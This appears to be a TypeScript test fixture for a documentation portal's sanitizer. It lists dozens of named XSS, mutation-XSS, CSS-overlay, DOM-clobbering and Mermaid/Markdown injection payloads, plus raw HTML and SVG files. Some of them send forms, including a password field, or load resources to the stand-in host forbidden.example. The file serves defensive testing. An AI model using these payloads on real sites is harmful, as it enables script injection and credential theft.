/**
 * Attacks that a docs page could try, by name. A script that runs sets `ran`; anything loaded, opened or sent goes to the host
 * `forbidden.example`. Pictures of other hosts do not count: pages may show them.
 */
const elsewhere = 'https://forbidden.example';

const scripts = {
  script: '<script>ran=1</script><SCRIPT SRC=//forbidden.example/x.js></SCRIPT><scr<script>ipt>ran=1</scr</script>ipt>',
  'script of another kind': `<script type=module>ran=1</script><script type=importmap>{"imports":{"x":"${elsewhere}/x"}}</script>`,
  'handlers of pictures':
    '<img src=x onerror=ran=1><img/src=x/onerror=ran=1><img src="x" "onerror="ran=1" onerror=ran=1>',
  'handlers of media':
    '<video src=x onerror=ran=1></video><video><source src=x onerror=ran=1></video><audio src=x onerror=ran=1 autoplay></audio>',
  'handlers that need nobody':
    '<body onload=ran=1><details open ontoggle=ran=1>x</details><marquee onstart=ran=1>x</marquee><input autofocus onfocus=ran=1><p tabindex=1 id=x onfocus=ran=1 contenteditable autofocus>x</p>',
  'handlers of animations':
    '<style>@keyframes x{from{color:red}}</style><p style="animation:x 1ms" onanimationstart=ran=1 onanimationend=ran=1>x</p><p style="transition:color 1ms" ontransitionend=ran=1>x</p>',
  'handlers in Markdown':
    '**x**{ onclick=ran=1 onmouseover=ran=1 } ![x](a.png){ onerror="ran=1" } [x](a){: onfocus=ran=1 autofocus }\n\n## x { onfocus=ran=1 tabindex=1 }\n',
};

const addresses = {
  'javascript links':
    '<a href="javascript:ran=1">a</a><a href=" JaVaScRiPt:ran=1">b</a><a href="javascript://%0aran=1">c</a><area href="javascript:ran=1"><a href="vbscript:ran=1">d</a>',
  'javascript links behind references':
    '<a href="javascript&colon;ran=1">a</a><a href="&#106;&#x61;vascript:ran=1">b</a><a href="jav&#x09;ascript:ran=1">c</a><a href="java&NewLine;script:ran=1">d</a><a href="&#1;javascript:ran=1">e</a>',
  'javascript links in Markdown':
    '[a](javascript:ran=1) [b](<javascript:ran=1>) [c](javascript&colon;ran=1) [d](java%0ascript:ran=1) [e][r] <javascript:ran=1> ![f](javascript:ran=1) [g](x "\\" onclick=ran=1 \\"") [h](x){ href="javascript:ran=1" }\n\n[r]: javascript:ran=1\n',
  'data links':
    '<a href="data:text/html,<script>top.ran=1</script>">a</a> [b](data:text/html;base64,PHNjcmlwdD50b3AucmFuPTE8L3NjcmlwdD4=) <a href="blob:null/x">c</a> <a href="filesystem:x">d</a>',
  'links that report': `<a href="x" ping="${elsewhere}/ping">a</a><a href="x" attributionsrc="${elsewhere}/a">b</a><img src="x.png" attributionsrc="${elsewhere}/b">`,
  'sets of pictures':
    '<img srcset="javascript:ran=1 1x, x.png 2x"><picture><source srcset="javascript:ran=1"><source srcset="data:text/html,x 1x"><img src="data:text/html,<script>top.ran=1</script>"></picture>',
};

const drawings = {
  'scripts in drawings':
    '<svg><script>ran=1</script></svg><svg onload=ran=1></svg><svg/onload=ran=1><svg><script href="data:,ran=1"></script></svg><svg xmlns="http://www.w3.org/2000/svg" onload="ran=1"><path d="M0 0"/></svg>',
  'links in drawings':
    '<svg width=99 height=99><a xlink:href="javascript:ran=1"><text y=20>x</text></a><a><animate attributeName=href values="javascript:ran=1"/><text y=40>y</text></a><set attributeName="href" to="javascript:ran=1"/></svg>',
  'animations in drawings':
    '<svg><animate onbegin=ran=1 attributeName=x dur=1s></animate><animateTransform onbegin=ran=1 attributeName=transform></animateTransform><set onend=ran=1 attributeName=x dur=1ms></set></svg>',
  'pages in drawings':
    '<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="ran=1"><iframe src="javascript:parent.ran=1"></iframe></body></foreignObject></svg><svg><desc><img src=x onerror=ran=1></desc></svg><svg><title><style><img src=x onerror=ran=1></style></title></svg>',
  'drawings of elsewhere': `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='ran=1'/></svg>#x"/></svg><svg><style>@import '${elsewhere}/x.css';</style><rect width=9 height=9 style="fill:url(${elsewhere}/x.svg#y)"/></svg>`,
  'formulas of HTML':
    '<math href="javascript:ran=1"><mi>a</mi></math><math><maction actiontype="statusline#x" xlink:href="javascript:ran=1">b</maction></math><math><annotation-xml encoding="text/html"><img src=x onerror=ran=1></annotation-xml></math>',
  'formulas of TeX':
    '$$\n\\href{javascript:ran=1}{a} \\url{javascript:ran=1} \\text{<img src=x onerror=ran=1>} \\class{md-overlay}{b} \\style{position:fixed}{c} \\htmlData{x=y}{d}\n$$\n\n$$\n\\includegraphics{https://forbidden.example/x.png}\n$$\n',
};

/** Text that a sanitizer and a browser parse differently. */
const mutations = {
  'style inside of a formula':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ran=1&gt;"></style></mglyph></table></mtext></math>',
  'forms inside of a formula': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran=1></style>',
  'style inside of a drawing': '<svg></p><style><a id="</style><img src=1 onerror=ran=1>"></style></svg>',
  'text that is markup later':
    '<noscript><p title="</noscript><img src=x onerror=ran=1>"></noscript><textarea><p title="</textarea><img src=x onerror=ran=1>"></textarea><xmp><p title="</xmp><img src=x onerror=ran=1>"></xmp><title><p title="</title><img src=x onerror=ran=1>"></title>',
  'templates inside of templates':
    '<template><s><template><s><img src=x onerror=ran=1>x</s></template></s></template><div><template shadowrootmode=open><script>ran=1</script></template></div>',
  'comments that end early':
    '<!--> <img src=x onerror=ran=1> --><!---> <img src=x onerror=ran=1> --><!-- --!> <img src=x onerror=ran=1> -->',
  'sections of XML':
    '<svg><![CDATA[<img src=x onerror=ran=1>]]></svg><![CDATA[<img src=x onerror=ran=1>]]><?xml-stylesheet href="javascript:ran=1"?>',
  'a tag without an end': '<img src=x onerror=ran=1 x="\n\nText that continues.\n',
  'the end of the page':
    '</article></div></main></body></html><!--/content--><script>ran=1</script><img src=x onerror=ran=1>',
  'elements within each other': `${'<div>'.repeat(600)}<img src=x onerror=ran=1>${'</div>'.repeat(600)}`,
};

const others = {
  frames: `<iframe src="javascript:parent.ran=1"></iframe><iframe srcdoc="<script>parent.ran=1</script>"></iframe><iframe src="${elsewhere}/frame"></iframe><frameset><frame src="javascript:parent.ran=1"></frameset><portal src="${elsewhere}/portal"></portal><fencedframe></fencedframe>`,
  'objects and plugins': `<object data="javascript:ran=1"></object><object data="${elsewhere}/x.html" type="text/html"></object><embed src="${elsewhere}/x.swf"><applet code="x"></applet>`,
  'what belongs into a head': `<base href="${elsewhere}/"><meta http-equiv=refresh content="0;url=${elsewhere}/refresh"><link rel=stylesheet href="${elsewhere}/x.css"><link rel=prefetch href="${elsewhere}/prefetch"><link rel=modulepreload href="${elsewhere}/x.js"><meta http-equiv=Content-Security-Policy content="default-src *">`,
  forms: `<form action="${elsewhere}/form"><input name=password type=password><textarea name=x></textarea><select><option>x</select><button formaction="javascript:ran=1">Sign in</button><input type=submit formaction="javascript:ran=1"><input type=image src=x onerror=ran=1></form>`,
  'popovers and dialogs':
    '<dialog open style="width:3000px;height:3000px">Sign in</dialog><div id=p popover>x</div><button popovertarget=p>open</button><input type=button popovertarget=p value=open><button command=show-popover commandfor=p>open</button>',
  'names of the browser':
    '<img name=cookie><img id=getElementById><form id=body name=body><input name=attributes><input id=fetch></form><a id=navigator href="x:y"></a><a id=root></a><div id=__drawer class=md-overlay></div><img name=location><a id=defaultView></a><a id=defaultView name=x></a>',
  'custom elements and slots': '<x-y onclick=ran=1 is=x></x-y><slot name=x></slot><p slot=x is="x-y">x</p>',
};

const styles = {
  'style elements': `<style>@import "${elsewhere}/x.css"; body,nav{display:none!important} :host{position:fixed;inset:0} *{background:url(${elsewhere}/x.png)}</style><style media=x>body{display:none}</style>`,
  'styles that load': `<p style="background:url(${elsewhere}/a)">a</p><p style="background:\\75rl(${elsewhere}/b)">b</p><p style="background-image:image-set('${elsewhere}/c' 1x)">c</p><p style="list-style:url(${elsewhere}/d)">d</p><p style="color:red;/**/cursor:url(${elsewhere}/e),auto">e</p><p style="--x:url(${elsewhere}/f);background:var(--x)">f</p><p style="background&#58;url(${elsewhere}/g)">g</p><table background="${elsewhere}/h"><tr><td background="${elsewhere}/i">x</td></tr></table>`,
  'boxes over everything':
    '<div style="position:fixed;inset:0;z-index:99999;background-color:red">a</div><div style="position:absolute;top:-999px;left:-999px;width:9999px;height:9999px;background:red">b</div><div style="position:sticky;top:0">c</div>',
  'boxes that are moved':
    '<div style="margin:-500px;background-color:red">a</div><div style="transform:translate(-50vw,-50vh);background-color:red">b</div><div style="translate:-500px -500px">c</div><div style="text-indent:-900px">d</div><p style="margin-left:calc(0px - 500px)">e</p><p style="inset:-500px;float:left">f</p>',
  'boxes that are too wide':
    '<div style="float:left;width:4000px;height:60px;background-color:red">a</div><table width=4000 bgcolor=red><tr><td>b</td></tr></table><hr width=4000 style="height:40px;background-color:red"><p style="width:4000px;background-color:red">c</p>',
  'boxes that are too wide to the left':
    '<div dir=rtl><div style="width:4000px;height:60px;background-color:red">a</div></div><div align=right><img width=4000 height=60 alt="b" src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="></div>',
  'letters that are too large':
    '<p style="font-size:2000px">a</p><p><font size=7 style="font-size:900px;line-height:0">b</font></p><p style="letter-spacing:2000px">c d</p>',
  'letters on top of each other': `<p>${`a${'\u0300\u0316'.repeat(400)}`}</p><p>${'w'.repeat(3000)}</p><p dir=rtl>\u202e\u2066 turned round</p>`,
  'classes of the reader':
    '<div class="copy md-overlay md-sidebar md-header" style="width:3000px;height:3000px">a</div><div class="md&#45;overlay" id="&#95;_drawer">b</div><span class="progress-bar" style="width:3000px;height:3000px;background-color:red">c</span><div class="headerlink tabbed-labels mermaid" data-drawn data-source="flowchart LR">d</div>',
};

const diagram = (text: string) => `\`\`\`mermaid\n${text}\n\`\`\`\n`;
const diagrams = {
  'labels of diagrams': diagram(
    'flowchart LR\n  a["<img src=x onerror=ran=1>"] --> b["<script>ran=1</script>"]\n  b --> c["`**x** <a href=\'javascript:ran=1\'>y</a>`"]',
  ),
  'links of diagrams': diagram(
    'flowchart LR\n  a --> b\n  click a "javascript:ran=1"\n  click b call ran(1)\n  click b href "javascript:ran=1" _top',
  ),
  'menus of diagrams': diagram(
    'sequenceDiagram\n  participant A\n  link A: Open @ javascript:ran=1\n  links A: {"Open": "javascript:ran=1"}\n  A->>A: <img src=x onerror=ran=1>',
  ),
  'settings of diagrams': diagram(
    `%%{init: {"securityLevel": "loose", "htmlLabels": true, "flowchart": {"htmlLabels": true}, "themeCSS": "} body { display: none } @import '${elsewhere}/x.css'; * { position: fixed; inset: 0; width: 4000px } .node rect { fill: url(${elsewhere}/y) }", "fontFamily": "x;} body{display:none} y{"}}%%\nflowchart LR\n  a["<img src=x onerror=ran=1>"] --> b`,
  ),
  'settings in front of diagrams': diagram(
    '---\ntitle: "<img src=x onerror=ran=1>"\nconfig:\n  securityLevel: loose\n  secure: []\n  themeVariables:\n    primaryColor: "red;} body{display:none} x{"\n---\nflowchart LR\n  a["<img src=x onerror=ran=1>"] --> b',
  ),
  'styles of diagrams': diagram(
    `flowchart LR\n  a --> b\n  style a fill:url(${elsewhere}/a),position:fixed\n  classDef x background:url(${elsewhere}/b),stroke:red\n  class b x\n  linkStyle 0 stroke:url(${elsewhere}/c)`,
  ),
  'diagrams that are broken':
    diagram('flowchart LR\n  a["<img src=x onerror=ran=1>" --> ]]] <script>ran=1</script>') +
    diagram('</code></pre><img src=x onerror=ran=1>'),
};

const markdown = {
  'titles of blocks':
    '!!! note "<img src=x onerror=ran=1>"\n    x\n\n=== "<img src=x onerror=ran=1>"\n    x\n\n```py title="<img src=x onerror=ran=1>"\nx\n```\n\n```"><img/src=x/onerror=ran=1>\nx\n```\n',
  'notes and words':
    'x[^"><img src=x onerror=ran=1>] HTML ++"<img/src=x/onerror=ran=1>"++ :"><img: {++<img src=x onerror=ran=1>++}\n\n[^"><img src=x onerror=ran=1>]: <img src=x onerror=ran=1>\n\n*[HTML]: "><img src=x onerror=ran=1>\n',
  headings:
    '## <img src=x onerror=ran=1> one\n\n## two {#"><img/src=x/onerror=ran=1>}\n\n## `<img src=x onerror=ran=1>` three\n\n[TOC]\n',
  'internal marks': 'x \0s0\0 y \\0s1\\0 &#0;s0&#0; \ue000 \n\n```py\n1\n```\n',
};

export const tricks: Readonly<Record<string, string>> = {
  ...scripts,
  ...addresses,
  ...drawings,
  ...mutations,
  ...others,
  ...styles,
  ...diagrams,
  ...markdown,
};

/** Files next to the pages, which a browser would run when they are opened directly on the origin of the portal. */
export const files: Readonly<Record<string, string>> = {
  'page.html': `<!doctype html><base href="${elsewhere}/"><meta http-equiv=refresh content="0;url=${elsewhere}/refresh"><h1>A file</h1><script>ran=1;fetch('/api/catalog/entities')</script><img src=x onerror=ran=1><form action="${elsewhere}/form"></form><iframe src="/catalog"></iframe>`,
  'drawing.svg':
    '<svg xmlns="http://www.w3.org/2000/svg" onload="ran=1" width="99" height="99"><script>ran=1</script><foreignObject width="99" height="99"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:parent.ran=1"/></foreignObject></svg>',
  'page.xhtml': '<html xmlns="http://www.w3.org/1999/xhtml"><script>ran=1</script></html>',
  'feed.xml': '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>ran=1</script></html>',
  'code.js': 'ran=1',
  'page.htm': '<script>ran=1</script>',
  'page.shtml': '<script>ran=1</script>',
  nothing: '<script>ran=1</script>',
};
